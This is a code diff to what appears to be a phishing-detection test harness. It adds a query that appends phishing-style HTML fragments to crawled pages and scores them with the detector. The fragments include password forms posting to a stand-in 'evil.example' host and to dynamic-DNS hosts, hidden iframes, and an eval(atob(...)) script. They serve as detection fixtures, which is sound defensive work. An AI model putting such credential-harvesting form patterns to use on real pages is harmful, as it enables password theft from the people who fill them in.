@@ -76,6 +76,20 @@ def frontend_signatures(spark, d):
     return signatures(pages).select("page_id", F.array_join("techniques", "|").alias("techniques"), F.array_join("static_rules", "|").alias("static_rules"))
 
 
+#: Snippets of form, frame and asset structure, one after each page in turn.
+_PASS = '<input type="password">'
+PIECES = (
+    "", f'<form action="https://login.okta.com/x">{_PASS}</form>', f'<form action="http://192.168.1.9/go">{_PASS}<input type="email"></form>', f'<form method=post action="/a/login2.php">{_PASS}</form>', f"<form action='//evil.example/p' id=f>{_PASS}</form>",
+    f'<form action="javascript:go()">{_PASS}</form><img src="https://www.paypal.com/logo.png">', '<form action="https://x.netlify.app/s"><input name="cvv"></form>', '<script src="https://apple.com/a.js"></script><form><input name="q"></form>', '<iframe src="https://unknown.example/t" style="display:none"></iframe>',
+    '<iframe hidden src="https://www.googletagmanager.com/ns"></iframe>', '<IFRAME hidden src="/own"></IFRAME>', f'<form action="https://a.duckdns.org/">{_PASS}</form><form action="https://b.example/send.php">{_PASS}</form>', '<script>eval(atob("x"))</script><body oncontextmenu="return false"><form action="/l"><input name=otp></form>', '<iframe style="display:none"></iframe>',
+)
+
+
+def page_structure(spark, d):
+    pages = spark.read.parquet(f"{d}/pages.parquet").select("page_id", "url", F.concat("html", F.element_at(F.array(*map(F.lit, PIECES)), (F.col("page_id") % len(PIECES) + 1).cast("int"))).alias("html"))
+    return evaluate(pages).select("page_id", F.array_join("flags", "|").alias("flags"), F.array_join("decisive", "|").alias("decisive"), F.array_join("mechanisms", "|").alias("mechanisms"), F.round("score", 6).alias("score"), "is_phishing")
+
+
 def observation_issues(spark, d):
     o = O.observations(spark, d).withColumn("issue", F.explode(O.issues()))
     return o.groupBy("slot", "replicate", "issue").agg(F.count("*").alias("n"))
@@ -101,7 +115,7 @@ def annotator_kappa(spark, d):
     return k.select("n", *[F.round(c, 9).alias(c) for c in ("po", "pe", "kappa")])
 
 
-QUERIES = {f.__name__: f for f in (url_normalize, url_registered_domain, url_entropy, crawl_order, feed_import, page_rules, url_risk, frontend_signatures, observation_issues, cloaking_label, reason_counts, label_prevalence, annotator_kappa)}
+QUERIES = {f.__name__: f for f in (url_normalize, url_registered_domain, url_entropy, crawl_order, feed_import, page_rules, url_risk, page_structure, frontend_signatures, observation_issues, cloaking_label, reason_counts, label_prevalence, annotator_kappa)}
 
 
 def _q(text: str) -> str:
@@ -241,6 +255,7 @@ SQL = {
     "feed_import": f"WITH {_V}, src AS (SELECT page_id * {len(VARIANTS)} + variant + 1 AS line, regexp_replace(url, '[?#].*$', '') AS url FROM variants), {_N}, d AS (SELECT line, url, normalized, CASE WHEN reason IS NOT NULL THEN reason WHEN row_number() OVER (PARTITION BY normalized ORDER BY line) > 1 THEN 'duplicate' END AS reason FROM normal) SELECT line, url AS raw_url, reason, normalized AS normalized_url, reason IS NULL AS accepted FROM d",
     "page_rules": f"WITH {_OBS}, {_EVAL} SELECT page_id, {', '.join(C.CATEGORIES)}, array_to_string(flags, '|') AS flags, array_to_string(decisive, '|') AS decisive, round(least(0.9::DOUBLE, final), 6) AS score, len(decisive) > 0 OR final >= 0.45::DOUBLE AS is_phishing FROM ev WHERE access_index = 2",
     "url_risk": f"WITH obs AS (SELECT page_id, variant, 'https://' || a || regexp_extract(url, '^[a-z]+://([^/?#]*)', 1) || b || c AS url, '' AS html FROM pages CROSS JOIN (VALUES {', '.join(f'({i}, {_q(a)}, {_q(b)}, {_q(c)})' for i, (a, b, c) in enumerate(RISKS))}) t(variant, a, b, c)), {_EVAL} SELECT page_id, variant, array_to_string(flags, '|') AS flags, array_to_string(decisive, '|') AS decisive, round(least(0.9::DOUBLE, final), 6) AS score FROM ev",
+    "page_structure": f"WITH obs AS (SELECT page_id, url, html || {_list(map(_q, PIECES))}[page_id % {len(PIECES)} + 1] AS html FROM pages), {_EVAL} SELECT page_id, array_to_string(flags, '|') AS flags, array_to_string(decisive, '|') AS decisive, array_to_string(mechanisms, '|') AS mechanisms, round(least(0.9::DOUBLE, final), 6) AS score, len(decisive) > 0 OR final >= 0.45::DOUBLE AS is_phishing FROM ev",
     "frontend_signatures": f"WITH t AS (SELECT page_id, html || {_list(map(_q, SNIPPETS))}[page_id % {len(SNIPPETS)} + 1] AS html FROM pages), c AS (SELECT page_id, list_sort(list_filter({_list(f"CASE WHEN {' OR '.join(_rx('html', '(?i)' + p) for p in patterns)} THEN '{k}' END" for k, patterns in C.SIGNATURES.items())}, lambda v: v IS NOT NULL)) AS t FROM t) SELECT page_id, array_to_string(t, '|') AS techniques, array_to_string(list_filter({_list(f"CASE WHEN {' AND '.join(f'list_has_any(t, {_list(map(_q, g))})' for g in groups)} THEN '{k}' END" for k, groups in C.SIGNATURE_RULES.items())}, lambda v: v IS NOT NULL), '|') AS static_rules FROM c",
     "observation_issues": f"WITH {_OBS} SELECT slot, replicate, issue, count(*) AS n FROM (SELECT slot, replicate, unnest({_ISSUES}) AS issue FROM obs) GROUP BY ALL",
     "cloaking_label": _CHAIN + "SELECT page_id, array_to_string(fired1, '|') AS fired, array_to_string(hidden1, '|') AS hidden, rule_label, label, array_to_string(reasons, '|') AS reasons FROM res",
